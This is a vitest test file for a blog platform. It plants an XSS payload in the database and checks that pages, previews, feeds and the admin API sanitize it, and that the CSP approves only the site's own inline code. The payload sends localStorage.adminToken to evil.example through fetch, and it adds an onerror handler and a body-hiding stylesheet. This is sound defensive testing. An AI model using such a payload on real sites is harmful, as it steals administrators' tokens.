import { createHash } from 'node:crypto';
import { expect, test } from 'vitest';
import { oneTestAdmin } from '../../../tests/support/create-test-admin.ts';

const sameAdmin = oneTestAdmin();

const slug = 'keyword-research-in-hinglish';
const script = 'fetch("https://evil.example/?" + localStorage.adminToken)';
const sheet = 'body { display: none }';
const poison = `<p>Its words.</p><script>${script}</script><style>${sheet}</style><img src=x onerror="${script}">`;

const hashOf = (text: string) => createHash('sha256').update(text).digest('base64');

/** A site into whose database somebody wrote directly. */
async function poisonedSite() {
  const admin = await sameAdmin();
  const { id } = await admin.database.db
    .updateTable('posts')
    .set({ content: poison })
    .where('slug', '=', slug)
    .returning('id')
    .executeTakeFirstOrThrow();
  const { url: preview } = (await admin.call('GET', `/api/blogs/${id}/preview-link`)).json();
  return { ...admin, id, preview };
}

test('neither shows nor approves a script in the database', async () => {
  const { http, preview } = await poisonedSite();
  for (const url of [`/blog/${slug}`, preview]) {
    const { body, headers } = await http.inject(url);
    const policy = String(headers['content-security-policy']);
    expect(body).toContain('Its words.');
    for (const text of [script, sheet]) {
      expect.soft(body, url).not.toContain(text);
      expect.soft(policy, url).not.toContain(hashOf(text));
    }
    expect(body).not.toContain('nonce');
    // Our own scripts, which the next test lists, may contain such listeners.
    expect(body.replaceAll(/<script.*?<\/script>/gs, '')).not.toContain('onerror');
  }
});

test('approves exactly our own scripts and styles of a page', async () => {
  const { http } = await poisonedSite();
  for (const url of ['/', `/blog/${slug}`, '/no-such-page', '/admin/login']) {
    const { body, headers } = await http.inject(url);
    const policy = String(headers['content-security-policy']);
    const approved = policy.match(/(?<='sha256-)[^']+/g) ?? [];
    const inline = [
      ...body.matchAll(/<(script|style)(?! type="application)[^>]*>([\s\S]*?)<\/\1>/g),
    ];
    expect(inline.length, url).toBeGreaterThan(3);
    expect(new Set(inline.map(([, , text = '']) => hashOf(text))), url).toEqual(new Set(approved));
    expect(body, url).not.toContain('nonce=');
  }
});

test('removes the script from feeds and the admin as well', async () => {
  const { http, call, id } = await poisonedSite();
  for (const url of ['/blog/feed.xml', '/blog/atom.xml', '/blog/feed.json']) {
    const { body } = await http.inject(url);
    expect.soft(body, url).toContain('Its words.');
    expect.soft(body, url).not.toMatch(/localStorage|display: none|onerror/);
  }
  const { content } = (await call('GET', `/api/blogs/${id}`)).json();
  expect(content).toBe('<p>Its words.</p><img src="" alt="">');
});
